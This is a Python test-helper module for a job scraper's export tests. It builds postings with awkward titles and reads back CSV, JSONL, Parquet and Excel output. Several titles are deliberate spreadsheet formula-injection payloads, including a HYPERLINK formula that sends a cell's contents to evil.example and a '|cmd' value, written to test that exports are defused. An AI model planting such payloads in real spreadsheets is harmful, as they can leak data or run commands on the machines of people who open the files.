"""What the export tests build with: postings with awkward texts, a listener, and how each format is read back."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
from openpyxl.utils.escape import unescape

from jobdata_scrapy.items import Job
from tests.warehouse.warehouse_parts import make_job

SEEN = datetime(2026, 11, 22, 20, 4, 5, 678000, tzinfo=UTC)  # 04:04:05 of the next day in Beijing
AWKWARD = {
    "plain": "数据分析师",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"数据")',
    "plus": "+86 数据",
    "minus": "-1+1|cmd",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "full": "＝1＋1",
    "inside": "C=A+B",
    "quotes": "他说 \"高薪\", '急聘'",
    "lines": "第一行\n第二行",
    "control": "a\x00b\x1fc",
    "runs": "<r><t>&</t></r>",
    "escape": "_x0041_ & <b>",
    "emoji": "🚀 增长",
    "link": "https://example.com/",
}


class Listener:
    """A progress that keeps what it was told."""

    def __init__(self) -> None:
        self.started: list[tuple[str, int | None]] = []
        self.rows = self.size = 0

    def start(self, name: str, total: int | None) -> None:
        self.started.append((name, total))

    def advance(self, rows: int, size: int) -> None:
        self.rows += rows
        self.size += size


def make_jobs() -> list[Job]:
    """One posting for each awkward text."""
    jobs = [make_job(job_id, title=title, skills=["Python", "=SQL"]) for job_id, title in AWKWARD.items()]
    for number, job in enumerate(jobs):
        job.salary_low, job.monthly_low, job.city = -1.5 * number, 10_000.0 + number, ["上海", "北京"][number % 2]
        job.published_at = SEEN if number else None
    return jobs


def read_csv(path: Path) -> list[dict[str, str]]:
    text = path.read_bytes().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def read_parquet(path: Path) -> list[dict[str, Any]]:
    return pq.read_table(path).to_pylist()


def read_sheets(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Rows by sheet. Inline strings hold _xHHHH_ escapes, which spreadsheets read and openpyxl leaves as they are."""
    book = openpyxl.load_workbook(path)
    return {sheet.title: [tuple(map(_read_cell, row)) for row in sheet.iter_rows(values_only=True)] for sheet in book}


def _read_cell(value: Any) -> Any:
    return unescape(value) if isinstance(value, str) else value


def by_id(rows: Sequence[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    return {row["job_id"]: row for row in rows}
